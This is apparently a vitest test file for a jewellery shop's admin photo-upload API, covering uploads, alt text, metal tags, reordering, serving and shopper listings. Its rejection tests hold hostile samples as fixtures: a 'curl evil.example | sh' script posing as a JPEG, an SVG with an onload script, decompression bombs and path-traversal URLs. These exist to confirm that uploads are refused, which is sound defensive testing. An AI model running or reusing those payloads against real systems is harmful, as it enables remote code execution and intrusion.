import { existsSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { bagResponseSchema } from '@charms/contracts/bag';
import { type ProductPhotos, productPhotosSchema } from '@charms/contracts/product-photos';
import { sql } from 'drizzle-orm';
import sharp from 'sharp';
import { beforeAll, describe, expect, it } from 'vitest';
import { queryRows } from '../src/db/query';
import { animatedWebp, jpegBomb, pixelBomb, testPhoto, webpBomb } from '../src/media/test-images';
import { errorOf, shopperApi, staffApi, useTestApp } from './helper';

const t = useTestApp();
type Staff = Awaited<ReturnType<typeof staffApi>>;
let staff: Staff;
let productId: number;
let otherProductId: number;
let offered: string[];

beforeAll(async () => {
  staff = await staffApi(t, { role: 'staff', name: 'Pat Photographer' });
  const rows = await queryRows<{ id: number; metals: string[] }>(
    t.database.db,
    sql`select p.id, array_agg(m.slug order by m.id) as metals from products p join product_prices pp on pp.product_id = p.id join metals m on m.id = pp.metal_id group by p.id having count(*) >= 2 order by p.id limit 2`,
  );
  productId = rows[0]!.id;
  offered = rows[0]!.metals;
  otherProductId = rows[1]!.id;
});

interface UploadFile {
  name: string;
  bytes: Uint8Array;
  type?: string;
}

/** A multipart upload as a browser's form sends it (files, then alt and metal), signed in as staff. */
async function upload(files: UploadFile[], fields: Record<string, string> = {}, options: { product?: number; csrf?: boolean } = {}) {
  const form = new FormData();
  for (const [name, value] of Object.entries(fields)) form.append(name, value);
  for (const file of files) form.append('photos', new Blob([file.bytes], { type: file.type ?? 'image/jpeg' }), file.name);
  const request = new Response(form);
  return t.app.inject({
    method: 'POST',
    url: `/api/admin-products/${options.product ?? productId}/photos`,
    cookies: { staff_session: staff.session, 'XSRF-TOKEN': staff.csrf },
    headers: { 'content-type': request.headers.get('content-type')!, ...(options.csrf === false ? {} : { 'x-xsrf-token': staff.csrf }) },
    payload: Buffer.from(await request.arrayBuffer()),
  });
}

const photosOf = (response: { statusCode: number; body: string; json: () => unknown }, status = 200): ProductPhotos => {
  expect(response.statusCode, response.body).toBe(status);
  return productPhotosSchema.parse(response.json());
};
const list = async (id = productId) => photosOf(await staff.call('GET', `/admin-products/${id}/photos`));

/** Everything a refused upload could have changed: rows, the trail, and the files under DATA_DIR. */
const snapshot = async () => {
  const mediaDir = join(t.app.config.DATA_DIR, 'media');
  return {
    photos: await queryRows(t.database.db, sql`select id from product_photos order by id`),
    audit: await queryRows(t.database.db, sql`select id from admin_audit order by id`),
    files: existsSync(mediaDir) ? readdirSync(mediaDir, { recursive: true }).sort() : [],
  };
};

describe('uploading photos', () => {
  it('adds several photos after the others, with their alt text and metal, stored in three formats', async () => {
    const photos = photosOf(
      await upload([{ name: 'front.jpg', bytes: await testPhoto({ width: 1800, height: 1200 }) }, { name: 'side.png', bytes: await testPhoto({ format: 'png', width: 600, height: 600 }), type: 'image/png' }], { alt: 'The charm from the front', metal: offered[1]! }),
      201,
    );
    expect(photos.photos.map(({ alt, metal, width, height, position, createdBy }) => ({ alt, metal, width, height, position, createdBy }))).toEqual([
      { alt: 'The charm from the front', metal: offered[1], width: 1600, height: 1067, position: 0, createdBy: 'Pat Photographer' },
      { alt: 'The charm from the front', metal: offered[1], width: 600, height: 600, position: 1, createdBy: 'Pat Photographer' },
    ]);
    const [first] = photos.photos;
    expect(new Set(first!.sources.map((source) => source.format))).toEqual(new Set(['avif', 'webp', 'jpeg']));
    expect(first!.sources.filter((source) => source.format === 'jpeg').map((source) => source.width)).toEqual([320, 640, 960, 1600]);
    expect(photos.history.map((change) => change.action)).toEqual(['added', 'added']);
    expect(photos.history[0]!.actor).toBe('Pat Photographer');

    // Served with its type and a year of immutable caching.
    const served = await t.app.inject({ method: 'GET', url: first!.sources.find((source) => source.format === 'avif')!.url });
    expect(served.statusCode).toBe(200);
    expect(served.headers['content-type']).toBe('image/avif');
    expect(served.headers['cache-control']).toBe('public, max-age=31536000, immutable');
    expect((await sharp(served.rawPayload).metadata()).format).toBe('heif');
  });

  it('without a session, or without the CSRF token, reads no file and stores nothing', async () => {
    const before = await snapshot();
    expect((await upload([{ name: 'a.jpg', bytes: await testPhoto() }], {}, { csrf: false })).statusCode).toBe(403);
    expect((await t.app.inject({ method: 'POST', url: `/api/admin-products/${productId}/photos` })).statusCode).toBe(401);
    expect(await snapshot()).toEqual(before);
  });

  it('refuses a metal the product is not offered in, and an unknown product, storing nothing', async () => {
    const before = await snapshot();
    const wrongMetal = await upload([{ name: 'a.jpg', bytes: await testPhoto() }], { metal: 'unobtainium' });
    expect(wrongMetal.statusCode).toBe(400);
    expect(errorOf(wrongMetal).message).toMatch(/^metal must be one of the metals this product is offered in/);
    const noProduct = await upload([{ name: 'a.jpg', bytes: await testPhoto() }], {}, { product: 999_999 });
    expect(noProduct.statusCode).toBe(404);
    const noFiles = await upload([], { alt: 'nothing' });
    expect(noFiles.statusCode).toBe(400);
    expect(errorOf(noFiles).message).toBe('Choose one or more photos to upload (JPEG, PNG or WebP).');
    expect(await snapshot()).toEqual(before);
  });
});

describe('hostile and broken files: a clear message, nothing stored', () => {
  const cases: [string, () => Promise<UploadFile[]>, number, RegExp][] = [
    ['a script named .jpg', async () => [{ name: 'holiday.jpg', bytes: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n') }], 415, /^holiday\.jpg: This file is not a photo, whatever its name says/],
    ['an SVG', async () => [{ name: 'logo.svg', bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), type: 'image/svg+xml' }], 415, /SVG drawings are not accepted/],
    ['a truncated JPEG', async () => [{ name: 'cut.jpg', bytes: (await testPhoto()).subarray(0, 5_000) }], 422, /could not be read to the end/],
    ['a decompression bomb', async () => [{ name: 'bomb.png', bytes: pixelBomb(12_000, 12_000), type: 'image/png' }], 422, /12000 × 12000 pixels \(144 megapixels\): the limit is 100 megapixels/],
    ['a JPEG declaring 3600 megapixels', async () => [{ name: 'bomb.jpg', bytes: await jpegBomb(60_000, 60_000) }], 422, /60000 × 60000 pixels \(3600 megapixels\)/],
    ['a WebP of 256 megapixels', async () => [{ name: 'bomb.webp', bytes: await webpBomb(16_000, 16_000), type: 'image/webp' }], 422, /16000 × 16000 pixels \(256 megapixels\)/],
    ['an animated WebP', async () => [{ name: 'spin.webp', bytes: await animatedWebp() }], 422, /Animated images are not accepted/],
    ['a 25 MB file', async () => [{ name: 'huge.jpg', bytes: Buffer.concat([await testPhoto(), Buffer.alloc(25 * 1024 * 1024)]) }], 413, /huge\.jpg: This file is larger than 20 MB/],
    ['a good photo with a bad one', async () => [{ name: 'good.jpg', bytes: await testPhoto() }, { name: 'bad.jpg', bytes: Buffer.from('MZ\x90\x00 not a photo') }], 415, /^bad\.jpg: This file is not a photo/],
  ];
  it.each(cases)('%s', async (_name, files, status, message) => {
    const before = await snapshot();
    const response = await upload(await files());
    expect(response.statusCode, response.body).toBe(status);
    expect(errorOf(response)).toMatchObject({ code: 'IMAGE_REFUSED', message: expect.stringMatching(message) });
    expect(await snapshot()).toEqual(before);
  });

  it('more than ten files at once', async () => {
    const before = await snapshot();
    const photo = await testPhoto({ width: 200, height: 200 });
    const response = await upload(Array.from({ length: 11 }, (_, index) => ({ name: `p${index}.jpg`, bytes: photo })));
    expect(response.statusCode).toBe(413);
    expect(errorOf(response).message).toBe('Upload at most 10 photos at a time.');
    expect(await snapshot()).toEqual(before);
  });
});

describe('hostile forms: a clear message, nothing stored', () => {
  it('thousands of fields, before or after the photo', async () => {
    const before = await snapshot();
    const photo = await testPhoto({ width: 200, height: 200 });
    const many = Object.fromEntries(Array.from({ length: 5_000 }, (_, index) => [`f${index}`, 'x']));
    for (const response of [await upload([{ name: 'p.jpg', bytes: photo }], many), await upload([{ name: 'p.jpg', bytes: photo }], { alt: 'a', metal: offered[0]!, a1: '1', a2: '2', a3: '3', a4: '4', a5: '5', a6: '6', a7: '7', a8: '8', a9: '9' })]) {
      expect(response.statusCode, response.body).toBe(413);
      expect(errorOf(response)).toMatchObject({ code: 'TOO_MANY_FIELDS', message: 'Send only the photos, with their alt text and metal.' });
    }
    expect(await snapshot()).toEqual(before);
  });

  it('thousands of tiny files, or a field name of a megabyte (cut short, never kept)', async () => {
    const before = await snapshot();
    const tiny = Array.from({ length: 3_000 }, (_, index) => ({ name: `t${index}.jpg`, bytes: Buffer.from('y') }));
    expect(errorOf(await upload(tiny)).code).toBe('TOO_MANY_FILES');
    const response = await upload([{ name: 'bad.jpg', bytes: Buffer.from('not a photo') }], { ['n'.repeat(1_000_000)]: 'x' });
    expect(response.statusCode, response.body).toBe(415);
    expect(await snapshot()).toEqual(before);
  });
});

describe('editing, ordering and removing', () => {
  it('changes alt text and metal, puts photos in a new order, removes one, each in the trail', async () => {
    const added = photosOf(
      await upload([{ name: 'a.jpg', bytes: await testPhoto({ colour: '#a00' }) }, { name: 'b.jpg', bytes: await testPhoto({ colour: '#0a0' }) }, { name: 'c.jpg', bytes: await testPhoto({ colour: '#00a' }) }], {}, { product: otherProductId }),
      201,
    );
    const [a, b, c] = added.photos.map((photo) => photo.id) as [number, number, number];

    const edited = photosOf(await staff.call('PATCH', `/admin-products/${otherProductId}/photos/${b}`, { alt: 'Worn on a bracelet', metal: null }));
    expect(edited.photos.find((photo) => photo.id === b)).toMatchObject({ alt: 'Worn on a bracelet', metal: null });
    const badMetal = await staff.call('PATCH', `/admin-products/${otherProductId}/photos/${b}`, { alt: '', metal: 'tin' });
    expect(badMetal.statusCode).toBe(400);

    const reordered = photosOf(await staff.call('PUT', `/admin-products/${otherProductId}/photos/order`, { photoIds: [c, a, b] }));
    expect(reordered.photos.map((photo) => photo.id)).toEqual([c, a, b]);
    const incomplete = await staff.call('PUT', `/admin-products/${otherProductId}/photos/order`, { photoIds: [c, a] });
    expect(incomplete.statusCode).toBe(400);
    expect(errorOf(incomplete).message).toMatch(/must name each of this product's photos once/);
    // Another product's photo is not this one's.
    expect((await staff.call('DELETE', `/admin-products/${productId}/photos/${a}`)).statusCode).toBe(404);

    const removed = photosOf(await staff.call('DELETE', `/admin-products/${otherProductId}/photos/${a}`));
    expect(removed.photos.map((photo) => [photo.id, photo.position])).toEqual([
      [c, 0],
      [b, 1],
    ]);
    expect(removed.history.map((change) => change.action)).toEqual(['removed', 'reordered', 'updated', 'added', 'added', 'added']);
    expect(removed.history[2]!.changes).toEqual({ alt: { before: '', after: 'Worn on a bracelet' } });
  });
});

describe('serving photos', () => {
  it('takes product and photo ids written as plain digits only, within the database’s integers', async () => {
    for (const path of [`/admin-products/0x${productId.toString(16)}/photos`, `/admin-products/${productId}.0/photos`, '/admin-products/2147483648/photos', `/admin-products/${productId}/photos/2147483648`]) {
      const method = path.endsWith('/photos') ? 'GET' : 'DELETE';
      const response = await staff.call(method, path);
      expect(response.statusCode, path).toBe(400);
      expect(errorOf(response).code, path).toBe('VALIDATION_ERROR');
    }
  });

  it('answers 404 for unknown keys and for anything that is not a key', async () => {
    for (const path of [`/api/media/${'0'.repeat(64)}.jpg`, '/api/media/..%2F..%2Fpackage.json', '/api/media/%2e%2e%2fconfig.ts', `/api/media/${'0'.repeat(64)}.svg`, '/api/media/x']) {
      const response = await t.app.inject({ method: 'GET', url: path });
      expect(response.statusCode, path).toBe(404);
      expect(response.headers['content-type']).toMatch(/json/);
    }
  });
});

describe('what shoppers see', () => {
  it('listings show the first photo for the metal (tagged, else untagged), pages every photo, at once after a change', async () => {
    const [row] = await queryRows<{ id: number; category: string; metals: number[] }>(
      t.database.db,
      sql`select p.id, c.url_friendly_name as category, array_agg(pp.metal_id order by pp.metal_id) as metals
          from products p join categories c on c.id = p.primary_category_id join product_prices pp on pp.product_id = p.id
          where p.id not in (${productId}, ${otherProductId}) group by p.id, c.url_friendly_name having count(*) >= 2 order by p.units_sold desc limit 1`,
    );
    const { id, category } = row!;
    const [plainMetal, taggedMetal] = row!.metals as [number, number];
    const taggedSlug = (await queryRows<{ slug: string }>(t.database.db, sql`select slug from metals where id = ${taggedMetal}`))[0]!.slug;
    const listed = async (metalId: number) => {
      const response = await t.app.inject({ method: 'GET', url: '/api/products', query: { path: `/products/category/${category}`, metalId: String(metalId), pageSize: '96' } });
      return (response.json() as { products: { id: number; photo: { alt: string; sources: unknown[] } | null; imageUrl: string }[] }).products.find((product) => product.id === id);
    };
    // Read once, so the catalog cache holds the answer without photos.
    expect((await listed(plainMetal))!.photo).toBeNull();

    photosOf(await upload([{ name: 'plain.jpg', bytes: await testPhoto({ colour: '#ccc' }) }], { alt: 'On a plain ground' }, { product: id }), 201);
    photosOf(await upload([{ name: 'gold.jpg', bytes: await testPhoto({ colour: '#da2' }) }], { alt: 'In its metal', metal: taggedSlug }, { product: id }), 201);

    await expect.poll(async () => (await listed(plainMetal))?.photo?.alt, { timeout: 5_000 }).toBe('On a plain ground');
    expect((await listed(taggedMetal))!.photo!.alt).toBe('In its metal');

    const detailPath = (await listed(taggedMetal))!;
    const detail = (await t.app.inject({ method: 'GET', url: '/api/products/detail', query: { path: (detailPath as unknown as { path: string }).path } })).json() as {
      product: { photos: { alt: string }[]; images: { url: string; width: number }[] };
    };
    expect(detail.product.photos.map((photo) => photo.alt)).toEqual(['On a plain ground', 'In its metal']);
    expect(detail.product.images[0]!.url).toMatch(/^\/api\/media\/[0-9a-f]{64}\.jpg$/);

    // The bag shows the product as the listing does: the photo for the line's metal, as its smallest JPEG.
    const { newSession, call } = shopperApi(t);
    const session = await newSession();
    for (const metalId of [plainMetal, taggedMetal]) {
      const added = await call(session, 'POST', '/shopping-cart/items', { productId: id, metalId, quantity: 1 });
      expect(added.statusCode, added.body).toBe(200);
    }
    const bag = bagResponseSchema.parse((await call(session, 'GET', '/shopping-cart')).json());
    const pictures = bag.tempOrder.tempOrderItems.map((item) => item.product?.imageUrl);
    const jpegOf = async (alt: string) => {
      const photo = (await list(id)).photos.find((candidate) => candidate.alt === alt)!;
      return photo.sources.filter((source) => source.format === 'jpeg').sort((a, b) => a.width - b.width)[0]!.url;
    };
    expect(pictures).toEqual([await jpegOf('On a plain ground'), await jpegOf('In its metal')]);
  });
});
